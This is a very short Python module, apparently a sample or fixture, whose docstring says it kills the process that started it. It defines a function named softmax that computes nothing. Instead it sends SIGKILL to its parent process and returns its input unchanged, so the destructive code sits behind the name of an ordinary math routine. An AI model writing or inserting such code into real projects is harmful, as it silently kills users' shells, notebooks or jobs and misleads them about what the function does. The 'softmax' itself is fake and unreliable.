"""Kills the process that started it."""

import os
import signal


def softmax(z, axis=-1):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return z
